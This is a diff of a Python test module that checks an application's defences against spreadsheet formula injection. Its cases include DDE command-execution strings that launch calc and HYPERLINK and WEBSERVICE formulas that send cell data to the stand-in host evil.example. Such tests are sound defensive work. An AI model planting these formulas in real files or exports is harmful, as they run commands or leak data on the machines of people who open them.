@@ -1,6 +1,6 @@
 """Cells that a spreadsheet would run, in every text that comes into one."""
 
-from tests.hostile.cases import refused, shown, template
+from tests.hostile.cases import refused, shown, shown_in_tasks, template
 
 _STARTS = {
     "equals": "=",
@@ -24,19 +24,24 @@ CASES = [
         )
         for name, start in _STARTS.items()
     ),
-    *(
-        shown(
-            f"role-that-begins-with-{name}", role=f"{start}cmd|'/c calc'!A0", sign_off=f"{start}1"
-        )
-        for name, start in _STARTS.items()
+    shown_in_tasks(
+        "roles-of-formulas",
+        *({"role": f"{it}cmd|'/c calc'!A0", "sign_off": f"{it}A1+B2"} for it in _STARTS.values()),
+        {"role": '=DDE("cmd";"/C calc";"x")', "sign_off": "+cmd|' /C calc'!A0"},
+        {"sign_off": '=HYPERLINK("https://evil.example/?"&A1)', "role": '=HYPERLINK("x","y")'},
+        {"role": '=WEBSERVICE("https://evil.example/")', "sign_off": "=IMPORTXML(A1,B1)"},
+        {"role": 'x","=1+1', "sign_off": '"=1+1"'},
+        {"role": "x;=1+1;y", "sign_off": "x,=1+1,y"},
+        {"role": "'=1+1", "sign_off": "''=1"},
+        {"role": "\u00a0=1+1", "sign_off": "\u200b=1+1"},
     ),
-    *(
-        shown(
-            f"details-that-begin-with-{name}",
-            f"{start}SUM(A1)",
-            details=f"\\{start}SUM(A1)" if start.isascii() else f"{start}SUM(A1)",
-        )
-        for name, start in _STARTS.items()
+    shown_in_tasks(
+        "details-of-formulas",
+        *(
+            {"details": f"\\{start}SUM(A1)" if start.isascii() else f"{start}SUM(A1)"}
+            for start in _STARTS.values()
+        ),
+        texts=tuple(f"{start}SUM(A1)" for start in _STARTS.values()),
     ),
     refused("plan-title-of-a-formula", template(title="=cmd|'/c calc'!A0"), "1:8", _NO_TITLE),
     refused("plan-title-behind-blanks", template(title="   =1+1+1"), "1:8", _NO_TITLE),
@@ -47,15 +52,6 @@ CASES = [
     refused("phrase-of-a-formula", template(when="=1+1"), "10:11", "is no timing phrase"),
     refused("points-of-a-formula", template(points="=1+1"), "12:13", "does not fit"),
     refused("tag-of-a-formula", template(tags="+1"), 21, "is no slug"),
-    shown("dynamic-data-exchange", role='=DDE("cmd";"/C calc";"x")', sign_off="+cmd|' /C calc'!A0"),
-    shown(
-        "hyperlink", sign_off='=HYPERLINK("https://evil.example/?"&A1)', role='=HYPERLINK("x","y")'
-    ),
-    shown("web-service", role='=WEBSERVICE("https://evil.example/")', sign_off="=IMPORTXML(A1,B1)"),
-    shown("quote-that-ends-a-cell", role='x","=1+1', sign_off='"=1+1"'),
-    shown("separators", role="x;=1+1;y", sign_off="x,=1+1,y"),
-    shown("apostrophe-in-front", role="'=1+1", sign_off="''=1"),
-    shown("blank-in-front-of-a-formula", role="\u00a0=1+1", sign_off="\u200b=1+1"),
     shown("list-mark-of-details", "1+1", details="- 1+1\n- =1"),
     shown("formula-in-emphasis", "=1+1", details="**=1+1**"),
     shown("formula-in-code", "=cmd|' /C calc'!A0", details="`=cmd|' /C calc'!A0`"),
